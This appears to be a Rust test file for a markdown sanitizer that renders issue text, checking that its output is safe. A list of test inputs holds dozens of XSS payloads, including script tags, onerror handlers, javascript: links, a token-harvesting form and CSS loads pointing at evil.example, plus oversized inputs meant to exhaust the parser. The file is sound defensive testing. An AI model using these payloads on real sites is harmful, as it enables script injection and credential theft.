use super::*;

#[path = "../../../../../tests/hostile/inert.rs"]
mod inert;

fn html(markdown: &str) -> String {
    let rendered = body(markdown);
    assert!(!rendered.plain, "{markdown:?} was shown as plain text");
    rendered.html
}

#[test]
fn what_people_write_in_issues_is_shown() {
    let cases = [
        ("Hello *there*", "<p>Hello <em>there</em></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("# Title", "<h3>Title</h3>\n"),
        ("`a < b`", "<p><code>a &lt; b</code></p>\n"),
        (
            "```rust\nlet a = 1;\n```",
            "<pre><code>let a = 1;\n</code></pre>\n",
        ),
        ("~~gone~~", "<p><del>gone</del></p>\n"),
        (
            "- [x] done\n- [ ] open",
            "<ul>\n<li> \u{2611} done</li>\n<li> \u{2610} open</li>\n</ul>\n",
        ),
        (
            "|a|b|\n|:-|-:|\n|1|2|",
            "<table>\n<thead>\n<tr>\n<th align=\"left\">a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n\
             <tbody>\n<tr>\n<td align=\"left\">1</td>\n<td align=\"right\">2</td>\n</tr>\n</tbody>\n</table>\n",
        ),
        (
            "<details><summary>Log</summary>\n\nlong\n\n</details>",
            "<details><summary>Log</summary>\n<p>long</p>\n</details>\n",
        ),
        (
            "see open-campus/docs#12 and #3",
            "<p>see open-campus/docs#12 and #3</p>\n",
        ),
        (
            "3. three\n4. four",
            "<ol start=\"3\">\n<li>three</li>\n<li>four</li>\n</ol>\n",
        ),
        ("text <!-- guildhall:accept v1 op=x -->", "<p>text </p>\n"),
        (
            "https://example.org/a?b=1&c=2",
            "<p><a href=\"https://example.org/a?b=1&amp;c=2\" title=\"https://example.org/a?b=1&amp;c=2\" \
             rel=\"noopener noreferrer\">https://example.org/a?b=1&amp;c=2</a></p>\n",
        ),
    ];
    for (markdown, expected) in cases {
        assert_eq!(html(markdown), expected, "{markdown}");
    }
}

#[test]
fn a_picture_is_a_placeholder_and_nothing_is_loaded() {
    let shown = html("![The plan](https://img.example/a.png)");
    assert!(
        shown.contains("\u{1f5bc} The plan (img.example)"),
        "{shown}"
    );
    assert!(
        shown.contains("href=\"https://img.example/a.png\""),
        "{shown}"
    );
    let shown = html("[![ci](https://img.example/a.svg)](https://ci.example/run)");
    assert_eq!(
        shown.matches("<a ").count(),
        1,
        "links do not nest: {shown}"
    );
    for loaded in [
        "![x](//host.example/a.png)",
        "![x](http://host.example/a.png)",
        "![x](data:image/png;base64,AAAA)",
        "<img src=https://host.example/a.png srcset=https://host.example/b.png onerror=alert(1)>",
        "<picture><source srcset=https://host.example/a.png><img src=a></picture>",
    ] {
        let shown = html(loaded);
        assert!(
            !shown.contains("<img") && !shown.contains("src"),
            "{loaded}: {shown}"
        );
    }
}

#[test]
fn a_host_in_another_script_is_told() {
    let shown = html("[github](https://gіthub.com/login)");
    assert!(shown.contains("</a> (xn--"), "{shown}");
}

#[test]
fn characters_that_deceive_are_marked() {
    let shown = html("user\u{202e}gpj.exe and a\u{200b}b and &#x2066;c and `\u{202d}`");
    for mark in ["⟨U+202E⟩", "⟨U+200B⟩", "⟨U+2066⟩", "⟨U+202D⟩"] {
        assert!(shown.contains(mark), "{mark}: {shown}");
    }
    assert!(
        html("👩‍💻 می‌خواهم").contains("👩‍💻 می‌خواهم"),
        "joiners that belong there stay"
    );
    assert!(html("a\u{200d}b").contains("⟨U+200D⟩"));
}

/// Hostile bodies. None may leave a tag, attribute or scheme that runs, loads or navigates.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" alt=\"&quot; onerror=alert(1) x=&quot;\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<div class=\"rail\" id=\"main\" style=\"position:fixed\">x</div>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example\"></object>",
    "<embed src=\"https://evil.example\">",
    "<form action=\"https://evil.example\"><input name=token><button>Sign in</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=\"https://evil.example/x.mp4\" autoplay></video>",
    "<audio src=\"https://evil.example/x.mp3\" autoplay></audio>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"tauri://localhost\">x</a>",
    "<a href=\"ipc://localhost/cmd\">x</a>",
    "<a href=\"vscode://file/x\">x</a>",
    "<a href=\"ssh://host/x\">x</a>",
    "<a href=\"smb://host/x\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/settings\">x</a>",
    "<a href=\"#/doctor\">x</a>",
    "<a href=\"guildhall://triage\">x</a>",
    "<a href=\"https://github.com@evil.example/\">x</a>",
    "<a href=\"https://ok.example\" target=_blank onclick=alert(1) ping=https://evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](https://github.com@evil.example/)",
    "[x](https:evil.example)",
    "[x](http://evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://img.example/a.png)",
    "![x](https://img.example/a.png\"onerror=alert(1))",
    "[x](https://ok.example \"title\\\" onmouseover=alert(1)\")",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<p onclick=alert(1)>x",
    "<td background=\"https://evil.example/x\">x</td>",
    "<table background=\"https://evil.example/x\"><tr><td>x</td></tr></table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<a href=https://ok.example/`onclick=alert(1)`>x</a>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a title='\"><script>alert(1)</script>' href=https://ok.example>x</a>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<ol start=\"1;x\" reversed=\"x\"><li value=9>x</li></ol>",
    "\0<script>alert(1)</script>",
];

#[test]
fn hostile_bodies_run_load_and_navigate_nowhere() {
    for hostile in HOSTILE {
        let shown = body(hostile).html;
        check_inert(hostile, &shown);
    }
    // All of them at once, and each inside the other kinds of blocks.
    check_inert("all", &body(&HOSTILE.join("\n\n")).html);
    for hostile in HOSTILE {
        for around in [
            format!("> {hostile}"),
            format!("- {hostile}"),
            format!("**{hostile}**"),
        ] {
            check_inert(&around, &body(&around).html);
        }
    }
}

/// Reads the answer with a parser of its own.
fn check_inert(hostile: &str, html: &str) {
    let offences = inert::offences(html);
    assert!(offences.is_empty(), "{hostile:?}: {offences:?} in {html}");
    assert!(
        !html.contains("evil.example/\""),
        "{hostile:?} leads to a page that it made up: {html}"
    );
}

#[test]
fn heavy_bodies_are_plain_text_and_small() {
    let rows = 2_000;
    let heavy = [
        ">".repeat(65_536),
        "> ".repeat(32_768),
        "- ".repeat(32_768),
        "1. ".repeat(20_000),
        (0..400)
            .map(|n| format!("{}- x\n", " ".repeat(2 * n)))
            .collect(),
        "<b>".repeat(20_000),
        "<i></b>".repeat(9_000),
        "<b><div></b>".repeat(5_000),
        "<div>".repeat(13_000),
        "*a ".repeat(20_000) + &"b* ".repeat(10_000),
        format!(
            "|{}\n|{}\n{}",
            "a|".repeat(300),
            "-|".repeat(300),
            "|\n".repeat(rows * 10)
        ),
    ];
    for text in heavy {
        let rendered = body(&text);
        let start: String = text.chars().take(20).collect();
        assert!(rendered.html.len() <= HTML, "{start}");
        check_inert(&start, &rendered.html);
    }
    let quotes = body(&">".repeat(65_536));
    assert!(quotes.plain && !quotes.truncated);
    let long = body(&"é".repeat(200_000));
    assert!(long.plain && long.truncated && long.html.len() <= HTML);
}

#[test]
fn awkward_bodies_of_full_length_are_answered() {
    let units = [
        "[",
        "](",
        "![",
        "`",
        "**_",
        "<a href=\"",
        "&",
        "\\",
        "\u{202e}",
        "😀",
        "[^1]",
        "~~",
        "||",
        "\r",
        "\t",
        "#",
        "=\n",
        "<!--",
        "https://a.example ",
        "a@b.example ",
        "[a](b \"",
        "- [ ] x\n",
        "[a]: https://b.example\n",
        "<p>",
        "<li>",
        "\u{0}",
        "<br>\n",
    ];
    for unit in units {
        let text: String = unit.chars().cycle().take(65_536).collect();
        let rendered = body(&text);
        check_inert(unit, &rendered.html);
        assert!(
            rendered.html.len() <= HTML,
            "{unit:?}: {}",
            rendered.html.len()
        );
    }
    assert_eq!(body("").html, "");
}

#[test]
fn the_plain_text_is_escaped_and_marked_too() {
    let rendered = body(&format!("{}<script>\u{202e}", ">".repeat(100)));
    assert!(rendered.plain);
    assert!(
        rendered.html.ends_with("&lt;script&gt;⟨U+202E⟩</pre>"),
        "{}",
        rendered.html
    );
}
